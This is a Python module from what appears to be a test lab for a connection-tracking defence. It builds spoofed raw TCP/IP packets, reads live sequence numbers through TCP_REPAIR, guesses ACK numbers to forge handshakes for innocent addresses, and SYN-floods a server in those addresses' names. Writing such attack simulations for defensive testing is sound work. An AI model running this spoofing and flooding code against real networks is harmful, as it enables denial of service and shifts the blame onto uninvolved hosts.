"""Segments that an attacker makes by hand: with a connection's own numbers, or tried out blindly.

``python -m rstguard.lab.forging`` is a blind attacker: in the names of silent hosts and of
innocents it tries out handshakes, and then sends SYNs in the same names until its time is over.
"""

from __future__ import annotations

import argparse
import socket
import time
from collections.abc import Iterable
from ipaddress import ip_network
from itertools import cycle, islice
from struct import pack, pack_into
from typing import NamedTuple, Self

from rstguard.engine.segment import checksum
from rstguard.engine.wire import ACK, SYN
from rstguard.lab.topology import INNOCENTS, SERVER, SILENT

FORGED = 0x04
"""Type of service of what the lab's attackers send in others' names: the observer counts by it."""
STEP = 65_000
"""How far apart guesses of an ACK number may be: the tracker takes one up to 66,000 too low."""
GUESSES = -(-(1 << 32) // STEP)
POISON = (60_000, 90_000, 110_000, 128_000)
"""How far ahead RSTs must be to carry the tracker's idea of a window beyond the real one."""

_FIRST = 1_000_000
_REPAIR, _REPAIR_OFF, _REPAIR_QUEUE, _QUEUE_SEQ = 19, -1, 20, 21
_RECEIVED, _SENT = 1, 2
_ABUSE_PER_SECOND = 800
_HEAD_START = 0.05  # seconds


class Numbers(NamedTuple):
    """The sequence number that an end sends next, and the one that it expects."""

    sends: int
    expects: int


def numbers(one: socket.socket) -> Numbers:
    """Return a socket's numbers (TCP_REPAIR, linux/tcp.h); needs CAP_NET_ADMIN."""
    tcp = socket.IPPROTO_TCP
    one.setsockopt(tcp, _REPAIR, 1)
    try:
        found = []
        for queue in (_SENT, _RECEIVED):
            one.setsockopt(tcp, _REPAIR_QUEUE, queue)
            found.append(one.getsockopt(tcp, _QUEUE_SEQ) & 0xFFFFFFFF)
    finally:
        one.setsockopt(tcp, _REPAIR, _REPAIR_OFF)
    return Numbers(*found)


def raw_socket(v6: bool = False) -> socket.socket:
    """Return a socket of the present namespace that sends whole IP packets."""
    family = socket.AF_INET6 if v6 else socket.AF_INET
    return socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)


def segment(
    one: socket.socket,
    flags: int,
    *,
    ahead: int = 0,
    hops: int = 64,
    options: tuple[tuple[int, bytes], ...] = (),
    payload: bytes = b"",
) -> bytes:
    """Return an IP packet in the name of a socket, `ahead` of the number that it sends next.

    `options` are TCP options, each with its kind and its value.
    """
    sends, expects = numbers(one)
    (source, port), (target, service) = one.getsockname()[:2], one.getpeername()[:2]
    listed = b"".join(bytes([kind, 2 + len(value)]) + value for kind, value in options)
    listed += bytes(-len(listed) % 4)
    length = (20 + len(listed)) // 4 << 4
    sequence = (sends + ahead) & 0xFFFFFFFF
    head = pack(">HHIIBBHHH", port, service, sequence, expects, length, flags, 512, 0, 0)
    ends = b"".join(socket.inet_pton(one.family, end) for end in (source, target))
    return bytes(_whole(ends, head + listed + payload, hops))


def _whole(ends: bytes, tcp: bytes, hops: int = 64, service_type: int = 0) -> bytearray:
    """Put an IP header before a TCP segment, and the checksum into this.

    `ends` are both addresses, 8 or 32 bytes.
    """
    even = tcp + bytes(len(tcp) % 2)
    total = checksum(ends + pack(">HH", 6, len(tcp)) + even)
    tcp = tcp[:16] + pack(">H", total) + tcp[18:]
    if len(ends) == 32:
        return bytearray(pack(">IHBB", 6 << 28, len(tcp), 6, hops) + ends + tcp)
    fields = (0x45, service_type, 20 + len(tcp), 0, 0x4000, hops, 6)
    total = checksum(pack(">BBHHHBBH", *fields, 0) + ends)
    return bytearray(pack(">BBHHHBBH", *fields, total) + ends + tcp)


def marked(packet: bytes) -> bytes:
    """Return an IPv4 packet without IP options with the type of service `FORGED`."""
    header = packet[:1] + bytes([FORGED]) + packet[2:10] + bytes(2) + packet[12:20]
    return header[:10] + pack(">H", checksum(header)) + packet[12:]


class Forger:
    """Sends in the name of `source` to one service, many segments fast; it sees no answers."""

    def __init__(self, source: str, target: str, port: int, service_type: int = 0) -> None:
        v6 = ":" in target
        self._raw = raw_socket(v6)
        self._raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        self._target, self._port, self._service_type = target, port, service_type
        family = socket.AF_INET6 if v6 else socket.AF_INET
        self._ends = b"".join(socket.inet_pton(family, one) for one in (source, target))

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._raw.close()

    def syns(self, ports: Iterable[int]) -> None:
        """Send a SYN from each of these ports."""
        for port in ports:
            self._raw.sendto(self._segment(port, SYN, _FIRST), (self._target, 0))

    def acks(self, port: int, numbers: Iterable[int]) -> None:
        """Send what may be the first ACK after the SYN from this port, once for each number."""
        packet = self._segment(port, ACK, _FIRST + 1)
        at = len(packet) - 20
        without = ~int.from_bytes(packet[at + 16 : at + 18], "big") & 0xFFFF
        send, to = self._raw.sendto, (self._target, 0)
        for number in numbers:
            pack_into(">I", packet, at + 8, number)
            total = without + (number >> 16) + (number & 0xFFFF)
            total = (total & 0xFFFF) + (total >> 16)
            pack_into(">H", packet, at + 16, ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF)
            send(packet, to)

    def handshake(self, port: int) -> None:
        """Complete a handshake by trying: one of the ACKs is near enough for the tracker.

        The SYN has to be through the gateway before: an ACK that overtakes it opens an entry of
        its own, or none.
        """
        self.syns([port])
        time.sleep(_HEAD_START)
        self.acks(port, range(0, 1 << 32, STEP))

    def _segment(self, port: int, flags: int, sequence: int) -> bytearray:
        tcp = pack(">HHIIBBHHH", port, self._port, sequence, 0, 0x50, flags, 64240, 0, 0)
        return _whole(self._ends, tcp, service_type=self._service_type)


def _abuse(victims: list[Forger], end: float) -> None:
    """Send SYNs in the victims' names in turns."""
    begin = time.monotonic()
    for number, victim in enumerate(cycle(victims)):
        victim.syns([20_000 + number // len(victims)])
        time.sleep(max(begin + number / _ABUSE_PER_SECOND - time.monotonic(), 0))
        if time.monotonic() >= end:
            break


def main() -> None:
    """Deceive and abuse as the command line says."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--victims", type=int, required=True, help="of each kind")
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    begin = time.monotonic()
    names = [
        str(address)
        for network in (SILENT, INNOCENTS)
        for address in islice(ip_network(network).hosts(), options.victims)
    ]
    victims = [Forger(name, SERVER, 80, FORGED) for name in names]
    for victim in victims:
        if time.monotonic() < begin + options.seconds / 2:  # a slow machine deceives with fewer
            victim.handshake(1000)
    _abuse(victims, begin + options.seconds)


if __name__ == "__main__":
    main()
